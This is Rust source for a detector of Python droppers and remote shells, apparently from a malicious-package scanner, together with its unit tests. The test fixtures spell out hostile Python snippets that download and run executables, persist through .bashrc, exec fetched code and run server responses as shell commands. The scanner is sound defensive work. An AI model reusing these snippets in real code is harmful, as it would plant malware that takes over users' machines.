//! What does one Python scope run of what it got? Fetch, write and run in one function is
//! a dropper's shape, but honest code has it too: an updater downloads a release and
//! starts an unrelated helper script, an installer downloads an archive and runs `tar` on
//! it. What tells a dropper apart is the data flow: the bytes that came from the network
//! are written to a path, and that path is the program that starts (or the script an
//! interpreter is told to run). The same following finds a response run as a command line
//! (a remote shell), and a file the scope wrote and then started (a dropper when it runs
//! at install time).
//!
//! The analysis follows names through one scope's statements in order, without a parser:
//! a name bound to a response (`r = requests.get(u)`) or derived from one
//! (`data = r.content`) carries the download; a path is written with it
//! (`with open(p, 'wb') as f: f.write(data)`, `urlretrieve(u, p)`); a command whose
//! program is that path (`subprocess.run([p])`, `os.startfile(p)`,
//! `os.system(f"start {p}")`) runs it. Names it cannot follow make it answer no, so it
//! confirms droppers rather than finds them.

use crate::pyblocks::LineInfo;
use regex::Regex;
use std::collections::{BTreeMap, BTreeSet};
use std::sync::LazyLock;
use syntax::{call_args, is_name, mentions_name, statements, unquote, without_strings};

mod commands;
mod facts;
mod syntax;

use commands::{
    called, command_program_is, is_value_of, mentions, runs_one_of, runs_received_command,
};
pub use facts::{FileFacts, file_facts};

/// Where a scope runs something it got (1-based lines).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ScopeRun {
    pub run_line: u32,
    pub ran: Ran,
}

/// What ran.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Ran {
    /// A download, from the file it was written to (`path` as written: `file_path`,
    /// `'update.exe'`).
    Download {
        path: String,
        fetched_line: u32,
        written_line: u32,
    },
    /// A response itself, as a command line: a remote shell.
    Command { fetched_line: u32 },
    /// A file the scope wrote from its own content (a script kept in a string) and then
    /// started: what matters is where the scope runs, at install time a dropper.
    WrittenScript { path: String, written_line: u32 },
}

impl Ran {
    /// Whether what ran came from the network.
    pub fn downloaded(&self) -> bool {
        !matches!(self, Ran::WrittenScript { .. })
    }
}

/// A network call whose result is the downloaded content or a response holding it.
pub(super) static FETCH: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"\b(?:urlopen|(?:requests|httpx|urllib3|_*(?:http_?)?session|sess)\.(?:get|post|request|stream)|PoolManager\(\)\.request)\s*\(",
    )
    .expect("valid regex")
});
/// The captured output of a curl command (`subprocess.getoutput('curl http://x')`) is the
/// response body, as surely as `requests.get(u).text`; `-o` writes it to a file instead.
static CURL_OUTPUT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"\b(?:subprocess\.(?:getoutput|check_output|run)|os\.popen)\s*\(\s*[\[(]?\s*[rfbu]?["']curl["'\s]"#,
    )
    .expect("valid regex")
});
static CURL_TO_FILE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"["'\s](?:-o|-O|--output|--remote-name)["'\s=]"#).expect("valid regex")
});
/// Python run from a file: `exec(open(p).read())` (group 1: `open`'s arguments with their
/// brackets) or `exec(f.read(), g)` (group 2: the handle).
static EXEC_READ: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?:^|[^.\w])exec\s*\(\s*(?:compile\s*\(\s*)?(?:open\s*(\([^()]*\))|(\w+))\.read\s*\(",
    )
    .expect("valid regex")
});
/// A temporary file kept open for writing: its `.name` is the path written.
static TEMP_FILE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^(?:(\w+)\s*=\s*|with\s+)(?:tempfile\.)?NamedTemporaryFile\s*\(")
        .expect("valid regex")
});
/// Calls that fetch a URL straight into a file named by their second argument.
static RETRIEVE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\b(?:urlretrieve|wget\.download|download_file)\s*\(").expect("valid regex")
});
static OPEN: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\b(?:io\.)?open\s*\(").expect("valid regex"));
static WITH_AS: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\bas\s+(\w+)\s*[:,)]").expect("valid regex"));
static ASSIGN: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^(\w+)\s*(?::[^=]+)?=\s*([^=].*)$").expect("valid regex"));
static FOR_IN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^(?:async\s+)?for\s+\(?(\w+(?:\s*,\s*\w+)*)\)?\s+in\s+(.+):").expect("valid regex")
});
/// `out.append(b ^ k)`, `buf += chunk`: the collection holds what is added to it.
static ACCUMULATE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^(\w+)(?:\.(?:append|extend|write)\s*\((.*)\)|\s*\+=\s*(.*))$")
        .expect("valid regex")
});
static HANDLE_WRITE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\b(\w+)\.write\s*\(").expect("valid regex"));
static WRITE_BYTES: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:\bPath\s*\(\s*([^()]+?)\s*\)|\b(\w+))\.write_bytes\s*\(").expect("valid regex")
});
static COPY_TO: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\bshutil\.copyfileobj\s*\(").expect("valid regex"));
/// Files whose content the system runs at login or on a schedule.
static STARTUP: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)bashrc|bash_profile|zshrc|\.profile\b|crontab|autostart|startup|launchagents")
        .expect("valid regex")
});
/// Work one file may cost the check, in bytes of statement read times names followed:
/// beyond it the remaining statements are not followed.
const WORK_BUDGET: usize = 256 << 20;
/// Calls of one kind read per statement.
pub(super) const MAX_CALLS: usize = 16;

/// The gravest place in each of `scopes` (a function's `def` line, or `None` for
/// module-level code) where the scope runs what it downloaded, runs a response as a
/// command, or starts a file it wrote: a download run before a written script.
pub fn find_runs(
    data: &[u8],
    lines: &[LineInfo],
    scopes: &BTreeSet<Option<u32>>,
    facts: &FileFacts,
) -> Runs {
    let mut budget = WORK_BUDGET;
    let mut providers: BTreeMap<String, (u32, u32)> = BTreeMap::new();
    let mut found: BTreeMap<Option<u32>, ScopeRun> = BTreeMap::new();
    let (first, mut complete) = statements(data, lines, scopes);
    for (scope, statements) in first {
        let followed = follow(&statements, facts, &providers, &mut budget);
        complete &= followed.read_all;
        if let (Some(function), Some(download)) = (scope, followed.returns_download)
            && let Some(name) = facts.function_names.get(&function)
        {
            remember(&mut providers, name, download, |v| v.0);
        }
        if let Some(run) = followed.run {
            found.insert(scope, run);
        }
    }
    // A helper that downloads a file and returns its path splits the dropper in two
    // (`path = fetch_helper()` in another function, then `Popen([python, path])`): with
    // the helpers known, every scope that calls one is read again.
    if !providers.is_empty() {
        let callers: BTreeSet<Option<u32>> = all_scopes(lines)
            .into_iter()
            .filter(|scope| !found.contains_key(scope))
            .collect();
        let (second, read_all) = statements(data, lines, &callers);
        complete &= read_all;
        for (scope, statements) in second {
            // Aliases stand for module names, never for the file's own functions, so
            // the raw text is what to read here.
            let calls_provider = statements
                .iter()
                .any(|(_, text)| providers.keys().any(|p| calls_function(text, p)));
            if !calls_provider {
                continue;
            }
            let followed = follow(&statements, facts, &providers, &mut budget);
            complete &= followed.read_all;
            if let Some(run) = followed.run {
                found.insert(scope, run);
            }
        }
    }
    Runs {
        found: found.into_iter().collect(),
        complete,
    }
}

/// The scopes of a file: its functions, and the module body.
fn all_scopes(lines: &[LineInfo]) -> BTreeSet<Option<u32>> {
    let mut out: BTreeSet<Option<u32>> = lines
        .iter()
        .filter(|l| l.kind.runs())
        .filter_map(|l| l.function.map(Some))
        .collect();
    out.insert(None);
    out
}

/// Whether `expr` calls the file's function `name`, plainly or as a method of the
/// same object or class (`self._download()`, the shape of a setup.py command class).
fn calls_function(expr: &str, name: &str) -> bool {
    called(expr, name)
        || ["self.", "cls."].iter().any(|owner| {
            expr.match_indices(owner)
                .take(MAX_CALLS)
                .any(|(at, _)| called(&expr[at + owner.len()..], name))
        })
}

/// What following a file's scopes found.
pub struct Runs {
    /// The gravest run of each scope that has one.
    pub found: Vec<(Option<u32>, ScopeRun)>,
    /// Whether every statement of the scopes was read: when the work budget or the
    /// statement cap ran out, no run found is no evidence of none.
    pub complete: bool,
}

/// What following one scope found.
struct Followed {
    /// The gravest run in the scope.
    run: Option<ScopeRun>,
    /// `(written, fetched)` lines when the scope returns the path of a file it wrote with
    /// downloaded bytes.
    returns_download: Option<(u32, u32)>,
    /// Whether the scope was read to its end or to a run, within the work budget.
    read_all: bool,
}

/// What one scope's statements have shown so far. Each map holds at most `MAX_NAMES`
/// entries; a new one replaces the oldest, so padding cannot hide a later dropper.
#[derive(Default)]
struct Tracker {
    /// Names bound to a response or its body itself (`r`, `text = r.text`): run as a
    /// command, they are a remote shell.
    responses: BTreeMap<String, u32>,
    /// Names holding anything derived from a download (`v = r.json()['version']`), with
    /// the line of the download.
    derived: BTreeMap<String, u32>,
    /// File handles open for writing, with the line opened and the path.
    handles: BTreeMap<String, (u32, String)>,
    /// Paths holding downloaded bytes, with the line written and the line fetched.
    download_paths: BTreeMap<String, (u32, u32)>,
    /// Every path opened for writing, with the line.
    written_paths: BTreeMap<String, (u32, u32)>,
    /// File handles open for reading, with the line opened and the path.
    readers: BTreeMap<String, (u32, String)>,
}

/// One statement as the tracker reads it.
struct Statement<'a> {
    line: u32,
    text: &'a str,
    /// Whether it makes a network request (`requests.get`, a fetching helper of the file).
    fetches: bool,
}

fn is_fetch(expr: &str, facts: &FileFacts) -> bool {
    FETCH.is_match(expr)
        || (CURL_OUTPUT.is_match(expr) && !CURL_TO_FILE.is_match(expr))
        || facts.fetchers.iter().any(|f| called(expr, f))
}

/// Whether a statement makes a network request: a call named only inside a string
/// literal (a script kept in a variable) makes none, but curl's command line is itself a
/// literal.
fn statement_fetches(text: &str, facts: &FileFacts) -> bool {
    is_fetch(text, facts) && (CURL_OUTPUT.is_match(text) || is_fetch(&without_strings(text), facts))
}

fn follow(
    statements: &[(u32, String)],
    facts: &FileFacts,
    providers: &BTreeMap<String, (u32, u32)>,
    budget: &mut usize,
) -> Followed {
    let mut t = Tracker::default();
    let mut script: Option<ScopeRun> = None;
    let mut returns_download = None;
    let mut read_all = true;
    for (line, text) in statements {
        let text = facts.unaliased(text.trim());
        let text = text.as_ref();
        let cost = text.len().saturating_mul(1 + t.names());
        if cost > *budget {
            read_all = false;
            break;
        }
        *budget -= cost;
        let s = Statement {
            line: *line,
            text,
            fetches: statement_fetches(text, facts),
        };
        if let Some(run) = t.runs_what_it_got(&s, facts) {
            return Followed {
                run: Some(run),
                returns_download,
                read_all: true,
            };
        }
        if script.is_none() {
            // Keep reading: a harmless script started first must not hide a download
            // run after it.
            script = runs_one_of(text, &t.written_paths, facts).map(|(path, (written_line, _))| {
                ScopeRun {
                    run_line: s.line,
                    ran: Ran::WrittenScript { path, written_line },
                }
            });
        }
        if let Some(run) = t.note_writes(&s, facts) {
            return Followed {
                run: Some(run),
                returns_download,
                read_all: true,
            };
        }
        if let Some(returned) = text.strip_prefix("return ")
            && let Some(&download) = t.download_paths.get(returned.trim())
        {
            returns_download = Some(download);
        }
        t.note_binding(&s, facts, providers);
    }
    Followed {
        run: script,
        returns_download,
        read_all,
    }
}

impl Tracker {
    fn names(&self) -> usize {
        self.responses.len() + self.derived.len() + self.download_paths.len()
    }

    /// The line of the download that `expr` carries, if any.
    fn carries(&self, expr: &str, s: &Statement, facts: &FileFacts) -> Option<u32> {
        if s.fetches && is_fetch(expr, facts) {
            return Some(s.line);
        }
        self.derived
            .iter()
            .chain(&self.responses)
            .find(|(name, _)| mentions_name(expr, name))
            .map(|(_, &at)| at)
    }

    /// A download path started, or a response run as a command.
    fn runs_what_it_got(&self, s: &Statement, facts: &FileFacts) -> Option<ScopeRun> {
        if let Some((path, (written_line, fetched_line))) =
            runs_one_of(s.text, &self.download_paths, facts)
        {
            return Some(ScopeRun {
                run_line: s.line,
                ran: Ran::Download {
                    path,
                    fetched_line,
                    written_line,
                },
            });
        }
        // `exec(open(p).read())`, `exec(f.read(), g)`: a downloaded file run as Python.
        if let Some(c) = EXEC_READ.captures(s.text) {
            let path = match (c.get(1), c.get(2)) {
                (Some(opened), _) => call_args(opened.as_str(), 0).first().map(|p| p.to_string()),
                (None, Some(handle)) => self.readers.get(handle.as_str()).map(|(_, p)| p.clone()),
                _ => None,
            };
            // `exec(resp.read())`: the response itself run as Python.
            if let Some(&fetched_line) = c.get(2).and_then(|h| {
                self.responses
                    .get(h.as_str())
                    .or_else(|| self.derived.get(h.as_str()))
            }) {
                return Some(ScopeRun {
                    run_line: s.line,
                    ran: Ran::Command { fetched_line },
                });
            }
            if let Some((path, &(written_line, fetched_line))) = path.as_deref().and_then(|p| {
                self.download_paths
                    .iter()
                    .find(|(key, _)| p.trim() == key.as_str() || mentions(p, key, facts))
            }) {
                return Some(ScopeRun {
                    run_line: s.line,
                    ran: Ran::Download {
                        path: path.clone(),
                        fetched_line,
                        written_line,
                    },
                });
            }
        }
        let fetched_line = runs_received_command(s.text, &self.responses, facts)?;
        Some(ScopeRun {
            run_line: s.line,
            ran: Ran::Command { fetched_line },
        })
    }

    /// Files opened, retrieved into and written; a download named in a start-up file is
    /// a run, returned.
    fn note_writes(&mut self, s: &Statement, facts: &FileFacts) -> Option<ScopeRun> {
        let (line, text) = (s.line, s.text);
        for m in RETRIEVE.find_iter(text).take(MAX_CALLS) {
            if let Some(path) = call_args(text, m.end() - 1).get(1) {
                remember(&mut self.download_paths, path, (line, line), |v| v.0);
            }
        }
        // `t = NamedTemporaryFile(delete=False)`: written through `t`, started as `t.name`.
        if let Some(c) = TEMP_FILE.captures(text) {
            let handle = c.get(1).map(|m| m.as_str().to_string()).or_else(|| {
                WITH_AS
                    .captures(&text[c.get(0).map_or(0, |m| m.end())..])
                    .map(|w| w[1].to_string())
            });
            if let Some(handle) = handle {
                let path = format!("{handle}.name");
                remember(&mut self.written_paths, &path, (line, line), |v| v.0);
                remember(&mut self.handles, &handle, (line, path), |v| v.0);
            }
        }
        // `with open(p, 'wb') as f:`, `d = open(p, 'wb')` and `open(p, 'wb').write(data)`.
        for m in OPEN.find_iter(text).take(MAX_CALLS) {
            let args = call_args(text, m.end() - 1);
            let Some(path) = args.first() else {
                continue;
            };
            if !args.get(1).is_some_and(|mode| is_write_mode(mode)) {
                // `with open(p) as f:` or `f = open(p)` reads `p`, perhaps to run it:
                // `exec(f.read())`.
                let reader = text
                    .starts_with("with ")
                    .then(|| WITH_AS.captures(&text[m.end()..]))
                    .flatten()
                    .map(|c| c[1].to_string())
                    .or_else(|| {
                        ASSIGN
                            .captures(text)
                            .filter(|c| c.get(2).is_some_and(|v| v.start() == m.start()))
                            .map(|c| c[1].to_string())
                    });
                if let Some(reader) = reader {
                    remember(&mut self.readers, &reader, (line, path.to_string()), |v| {
                        v.0
                    });
                }
                continue;
            }
            remember(&mut self.written_paths, path, (line, line), |v| v.0);
            let rest = &text[m.end()..];
            let with_handle = text
                .starts_with("with ")
                .then(|| WITH_AS.captures(rest))
                .flatten()
                .map(|c| c[1].to_string());
            let assigned_handle = ASSIGN
                .captures(text)
                .filter(|c| c.get(2).is_some_and(|v| v.start() == m.start()))
                .map(|c| c[1].to_string());
            for handle in with_handle.into_iter().chain(assigned_handle) {
                remember(&mut self.handles, &handle, (line, path.to_string()), |v| {
                    v.0
                });
            }
            if let Some(w) = rest.find(".write(") {
                let arg = call_args(rest, w + ".write".len()).concat();
                if let Some(at) = self.carries(&arg, s, facts) {
                    remember(&mut self.download_paths, path, (line, at), |v| v.0);
                }
            }
        }
        for c in HANDLE_WRITE.captures_iter(text).take(MAX_CALLS) {
            let (Some((_, path)), Some(m)) = (self.handles.get(&c[1]).cloned(), c.get(0)) else {
                continue;
            };
            let arg = call_args(text, m.end() - 1).concat();
            // Naming the download in a shell start-up file or a startup folder starts it
            // at the next login.
            if STARTUP.is_match(&path)
                && let Some((written_path, &(written_line, fetched_line))) = self
                    .download_paths
                    .iter()
                    .find(|(p, _)| mentions(&arg, p, facts))
            {
                return Some(ScopeRun {
                    run_line: line,
                    ran: Ran::Download {
                        path: written_path.clone(),
                        fetched_line,
                        written_line,
                    },
                });
            }
            if let Some(at) = self.carries(&arg, s, facts) {
                remember(&mut self.download_paths, &path, (line, at), |v| v.0);
            }
        }
        for m in COPY_TO.find_iter(text).take(MAX_CALLS) {
            let args = call_args(text, m.end() - 1);
            if let (Some(source), Some(target)) = (args.first(), args.get(1))
                && let Some(at) = self.carries(source, s, facts)
                && let Some((_, path)) = self.handles.get(*target).cloned()
            {
                remember(&mut self.download_paths, &path, (line, at), |v| v.0);
            }
        }
        for c in WRITE_BYTES.captures_iter(text).take(MAX_CALLS) {
            let (Some(whole), Some(path)) = (c.get(0), c.get(1).or(c.get(2))) else {
                continue;
            };
            let arg = call_args(text, whole.end() - 1).concat();
            if let Some(at) = self.carries(&arg, s, facts) {
                remember(&mut self.download_paths, path.as_str(), (line, at), |v| v.0);
            }
        }
        None
    }

    /// Names bound by the statement: to a response, to something derived from one, or
    /// to a command that starts a downloaded file.
    fn note_binding(
        &mut self,
        s: &Statement,
        facts: &FileFacts,
        providers: &BTreeMap<String, (u32, u32)>,
    ) {
        let text = s.text;
        let binding = ASSIGN
            .captures(text)
            .or_else(|| FOR_IN.captures(text))
            .or_else(|| ACCUMULATE.captures(text))
            .map(|c| {
                let value = c.get(2).or(c.get(3)).map_or("", |m| m.as_str());
                (c[1].to_string(), value.to_string())
            })
            .or_else(|| {
                // `with urlopen(u) as r:` binds a response.
                let c = text
                    .starts_with("with ")
                    .then(|| WITH_AS.captures(text))
                    .flatten()?;
                Some((c[1].to_string(), text.to_string()))
            });
        let Some((names, value)) = binding else {
            return;
        };
        // The response itself, or its body: `r = get(u)`, `text = r.text`.
        let response = if s.fetches && is_fetch(&value, facts) && is_call_chain(&value) {
            Some(s.line)
        } else {
            self.responses
                .iter()
                .find(|(name, _)| is_value_of(&value, name))
                .map(|(_, &at)| at)
        };
        if let (Some(at), true) = (response, is_name(&names)) {
            remember(&mut self.responses, &names, at, |v| *v);
        } else if let Some(at) = self.carries(&value, s, facts) {
            for name in names.split(',') {
                remember(&mut self.derived, name.trim(), at, |v| *v);
            }
        }
        // `path = fetch_helper()`: the name holds a file the helper downloaded.
        if is_name(&names)
            && let Some((_, &download)) = providers.iter().find(|(p, _)| calls_function(&value, p))
        {
            remember(&mut self.download_paths, &names, download, |v| v.0);
        }
        // `cmd = f'"{p}" /S'` or `exe = p`: the name now stands for running the file.
        if is_name(&names)
            && let Some((_, &at)) = self
                .download_paths
                .iter()
                .find(|(path, _)| command_program_is(&value, path, facts))
        {
            remember(&mut self.download_paths, &names, at, |v| v.0);
        }
    }
}

/// Entries kept per map: a generated file binding thousands of responses must not make
/// every later statement compare against all of them.
pub(super) const MAX_NAMES: usize = 32;

/// Keeps `key`, replacing the oldest entry (by the line `age` reads) when the map is full.
fn remember<V>(map: &mut BTreeMap<String, V>, key: &str, value: V, age: impl Fn(&V) -> u32) {
    let key = key.trim();
    if key.is_empty() {
        return;
    }
    if map.len() >= MAX_NAMES
        && !map.contains_key(key)
        && let Some(oldest) = map
            .iter()
            .min_by_key(|(_, v)| age(v))
            .map(|(k, _)| k.clone())
    {
        map.remove(&oldest);
    }
    map.insert(key.to_string(), value);
}

/// Whether `expr` is one call chain (`requests.get(u).text`), not an expression that
/// merely contains one (`requests.get(u).json()['version'] + 'x'`).
fn is_call_chain(expr: &str) -> bool {
    let expr = expr.trim();
    let first = expr
        .find(|c: char| !(c.is_alphanumeric() || c == '_'))
        .unwrap_or(expr.len());
    first > 0 && is_value_of(expr, &expr[..first])
}

fn is_write_mode(mode: &str) -> bool {
    let mode = mode
        .trim()
        .trim_start_matches("mode")
        .trim_start()
        .trim_start_matches('=');
    let literal = unquote(mode);
    mode.trim_start().starts_with(['"', '\'']) && literal.contains(['w', 'a', 'x'])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pyblocks::analyse_lines;

    /// The gravest run of any scope of `source`.
    fn flow(source: &str) -> Option<ScopeRun> {
        let lines = analyse_lines(source.as_bytes());
        let facts = file_facts(source.as_bytes(), &lines);
        let runs = find_runs(source.as_bytes(), &lines, &all_scopes(&lines), &facts);
        let mut runs: Vec<ScopeRun> = runs.found.into_iter().map(|(_, run)| run).collect();
        runs.sort_by_key(|r| !r.ran.downloaded());
        runs.into_iter().next()
    }

    /// Asserts that the gravest run of each of `sources` is what `expected` accepts.
    fn each_runs(sources: &[&str], expected: impl Fn(&Ran) -> bool) {
        for source in sources {
            let ran = flow(source).map(|f| f.ran);
            assert!(ran.as_ref().is_some_and(&expected), "{source}: {ran:?}");
        }
    }

    #[test]
    fn follows_a_response_into_a_file_that_is_started() {
        let source = "import requests, subprocess\n\ndef init(url):\n    response = requests.get(url)\n    path = os.path.join(tmp, name)\n    with open(path, 'wb') as file:\n        file.write(response.content)\n\n    subprocess.run([path])\n";
        let found = flow(source).expect("a dropper");
        assert_eq!(found.run_line, 9);
        assert_eq!(
            found.ran,
            Ran::Download {
                path: "path".to_string(),
                fetched_line: 4,
                written_line: 7
            }
        );
    }

    #[test]
    fn reads_module_level_droppers_and_retrievals_and_launchers() {
        for source in [
            "r = requests.get(U)\nopen('x.exe', 'wb').write(r.content)\nos.startfile('x.exe')\n",
            "urllib.request.urlretrieve(U, p)\nos.system(f'start {p}')\n",
            "urlretrieve(U, p)\nsubprocess.Popen(\n    ['powershell', '-File', p],\n    shell=True)\n",
            "def rn():\n    response = urllib2.urlopen(loc)\n    d = open('.drv', 'wb')\n    d.write(response.read())\n    brc = open(home + '/.bashrc', 'a')\n    brc.write('~/.drv &')\n",
            "def execute():\n    response = requests.get(URL)\n    open(\"payload.exe\", \"wb\").write(response.content)\n    os.system(\"set __COMPACT_LAYER=RunAsInvoker | start payload.exe\")\n",
            "LOC = '.drv'\ndef rn():\n    response = urllib2.urlopen(ADD_LOC).read ()\n    d = open (LOC, 'wb')\n    d.write (response)\n    os.system ('~/.drv &')\n",
            "def close():\n    r = requests.get(url)\n    with open(f'C://AMD//server.exe', 'wb') as f:\n        f.write(r.content)\n    os.startfile('C://AMD//server.exe')\n",
            "def run(self):\n    def dfile(url):\n        return urlopen(Request(url)).read()\n    r = dfile(U)\n    with open(dname+\"\\\\ComServer.exe\",'wb') as f:\n        f.write(r)\n    subprocess.Popen([dname+\"\\\\ComServer.exe\" , \"show\"], cwd=dname)\n",
            "def init():\n    open('download.exe', 'wb').write(requests.get(url).content)\n    os.startfile(os.getcwd()+\"\\\\download.exe\")\n",
            "from os import system\nopen(\"/tmp/node\", \"wb\").write(requests.get(U).content)\nsystem(\"cd /tmp && chmod +x node && ./node\")\n",
            "def r(path):\n    response = requests.get(url)\n    buf = response.content\n    out = []\n    for b, k in zip(buf, key):\n        out.append(b ^ k)\n    with open(binary_path, 'wb') as f:\n        f.write(bytes(out))\n    subprocess.Popen([binary_path])\n",
            "data = urlopen(U).read()\nPath(p).write_bytes(data)\ncmd = f'\"{p}\" /S'\nos.system(cmd)\n",
            "with urlopen(U) as r, open(p, 'wb') as f:\n    shutil.copyfileobj(r, f)\nsubprocess.call([sys.executable, p])\n",
        ] {
            assert!(flow(source).is_some(), "{source}");
        }
    }

    #[test]
    fn text_received_and_run_as_a_command_is_a_remote_shell() {
        // requestsdev's loop: the response is the command, run by a helper of the file.
        let c2 = "def debug():\n    while True:\n        resp = requests.get(link)\n        resp = resp.text\n        \
                  output = runcommand(resp)\n\ndef runcommand(value):\n    return subprocess.run(value, shell=True)\n";
        let found = flow(c2).expect("a remote shell");
        assert_eq!(
            (found.run_line, found.ran),
            (5, Ran::Command { fetched_line: 3 })
        );
        each_runs(
            &[
                "def f():\n    cmd = urlopen(U).read().decode()\n    os.system(cmd)\n",
                "r = requests.get(U)\nsubprocess.Popen(['bash', '-c', r.text])\n",
            ],
            |ran| matches!(ran, Ran::Command { .. }),
        );
        // A self-updater puts a fetched version into a command it wrote itself.
        for source in [
            "def up():\n    v = requests.get(U).json()['version']\n    subprocess.run([sys.executable, '-m', 'pip', 'install', f'x=={v}'])\n",
            "def up():\n    v = requests.get(U).text\n    os.system(f'pip install x=={v}')\n",
        ] {
            assert_eq!(flow(source), None, "{source}");
        }
    }

    #[test]
    fn a_file_written_from_the_code_and_started_is_told_apart() {
        // requesys: setup.py writes a script kept in a string and starts it.
        let source = "with open(APPDATA + '/OHR/executor.cmd', 'w+') as executor:\n    \
                      executor.write(EXECUTOR)\nstartfile(APPDATA + '/OHR/executor.cmd')\n";
        assert_eq!(
            flow(source).map(|f| f.ran),
            Some(Ran::WrittenScript {
                path: "APPDATA + '/OHR/executor.cmd'".to_string(),
                written_line: 1
            })
        );
    }

    #[test]
    fn review_cases_hostile_and_honest() {
        // A harmless script started first does not hide the dropper after it.
        let decoy = "def f():\n    open('a.sh', 'w').write('true')\n    os.system('sh a.sh')\n    \
                     r = requests.get(U)\n    open(p, 'wb').write(r.content)\n    subprocess.run([p])\n";
        assert!(matches!(
            flow(decoy).map(|f| f.ran),
            Some(Ran::Download { .. })
        ));
        // A command list built from a fetched version is the updater's own command.
        let updater = "def up():\n    v = requests.get(U).json()['version']\n    \
                       cmd = [sys.executable, '-m', 'pip', 'install', f'x=={v}']\n    subprocess.run(cmd)\n";
        assert_eq!(flow(updater), None);
        // An unbalanced bracket inside a string kept in a variable hides nothing after it.
        let hidden = "def f():\n    doc = \"\"\"run it (see docs\n    more\"\"\"\n    r = requests.get(U)\n    \
                      open(p, 'wb').write(r.content)\n    subprocess.run([p])\n";
        assert!(matches!(
            flow(hidden).map(|f| f.ran),
            Some(Ran::Download { .. })
        ));
        // Thirty-two junk responses before the real one do not blind the tracker.
        let mut padded = String::from("def f():\n");
        for i in 0..40 {
            padded.push_str(&format!("    a{i} = requests.get(U)\n"));
        }
        padded.push_str("    r = requests.get(U)\n    open(p, 'wb').write(r.content)\n    subprocess.run([p])\n");
        assert!(matches!(
            flow(&padded).map(|f| f.ran),
            Some(Ran::Download { .. })
        ));
        // os.spawn* names the program second; `fp` is not `p`; an empty path matches nothing.
        let spawn =
            "r = requests.get(U)\nopen(p, 'wb').write(r.content)\nos.spawnv(os.P_NOWAIT, p, [p])\n";
        assert!(matches!(
            flow(spawn).map(|f| f.ran),
            Some(Ran::Download { .. })
        ));
        let other = "r = requests.get(U)\nopen(p, 'wb').write(r.content)\nsubprocess.run(fp)\n";
        assert_eq!(flow(other), None);
        let broken = "open(, 'w')\nsubprocess.run(['ls'])\n";
        assert_eq!(flow(broken), None);
    }

    #[test]
    fn a_helper_that_returns_what_it_downloaded_carries_the_download_to_its_caller() {
        // The caller comes first in the file, and the session is a private attribute.
        let split = "def _run(action):\n    path = _fetch()\n    if not path:\n        return\n    \
                     subprocess.Popen([sys.executable, path, action], close_fds=True)\n\n\
                     def _fetch():\n    r = _session.get(EXT_URL, timeout=15)\n    code = r.text\n    \
                     for tgt in targets:\n        with open(tgt, 'w') as f:\n            f.write(code)\n        \
                     return tgt\n";
        assert_eq!(
            flow(split).map(|f| (f.run_line, f.ran)),
            Some((
                5,
                Ran::Download {
                    path: "path".to_string(),
                    fetched_line: 8,
                    written_line: 12
                }
            ))
        );
        // A helper that downloads an archive whose caller unpacks it runs nothing.
        let archive = "def _fetch():\n    r = requests.get(SRC_URL)\n    with open(dest, 'wb') as f:\n        \
                       f.write(r.content)\n    return dest\n\ndef build():\n    path = _fetch()\n    \
                       tarfile.open(path).extractall(tmp)\n    subprocess.run(['make', '-C', tmp])\n";
        assert_eq!(flow(archive), None);
    }

    #[test]
    fn aliased_imports_temporary_files_and_curl_output_are_read() {
        // A script written to a temporary file under aliased names, started with pythonw.
        let temp = "from os import system as _s\nfrom sys import executable as _e\n\
                    from tempfile import NamedTemporaryFile as _t\n_f = _t(delete=False)\n\
                    _f.write(b\"\"\"exec(urlopen(U).read())\"\"\")\n_f.close()\ntry:\n    \
                    if _n == 'nt':\n        _s(f\"start {_e.replace('.exe', 'w.exe')} {_f.name}\")\n\
                    except: pass\n";
        assert_eq!(
            flow(temp).map(|f| (f.run_line, f.ran)),
            Some((
                9,
                Ran::WrittenScript {
                    path: "_f.name".to_string(),
                    written_line: 4
                }
            ))
        );
        // What curl printed, run as a command, is a remote shell; a file curl wrote is not
        // a response.
        let curl = "try:\n    banner = subprocess.getoutput('curl http://x.example/m.html')\n    \
                    subprocess.getoutput(str(banner))\nexcept:\n    pass\n";
        assert_eq!(
            flow(curl).map(|f| f.ran),
            Some(Ran::Command { fetched_line: 2 })
        );
        let to_file =
            "out = subprocess.check_output(['curl', '-o', 'x.tgz', U])\nsubprocess.run(out)\n";
        assert_eq!(flow(to_file), None);
        // A downloaded file run as Python through a handle or `open(...).read()`.
        each_runs(
            &[
                "r = requests.get(U)\nopen(p, 'wb').write(r.content)\nwith open(p) as f:\n    exec(f.read(), {})\n",
                "urlretrieve(U, 'x.py')\nexec(open('x.py').read())\n",
            ],
            |ran| matches!(ran, Ran::Download { .. }),
        );
        // A version file of the package read and run is not a download.
        let version = "with open(os.path.join(here, 'pkg', '__version__.py')) as f:\n    exec(f.read(), about)\n";
        assert_eq!(flow(version), None);
        // A response run as Python through its read().
        let shell = "def f():\n    resp = urlopen(U)\n    exec(resp.read(), {})\n";
        assert_eq!(
            flow(shell).map(|f| f.ran),
            Some(Ran::Command { fetched_line: 2 })
        );
        // A provider called as a method of a setup.py command class.
        let method = "class Install(install):\n    def _download(self):\n        r = requests.get(U)\n        \
                      open(p, 'wb').write(r.content)\n        return p\n    def run(self):\n        \
                      exe = self._download()\n        subprocess.call([exe])\n";
        assert!(matches!(
            flow(method).map(|f| f.ran),
            Some(Ran::Download { .. })
        ));
        // `str(str(r))` is the response; `str(a) + str(b)` is not `str(...)` of one value.
        let wrapped = "r = requests.get(U).text\nos.system(str(str(r)))\n";
        assert_eq!(
            flow(wrapped).map(|f| f.ran),
            Some(Ran::Command { fetched_line: 1 })
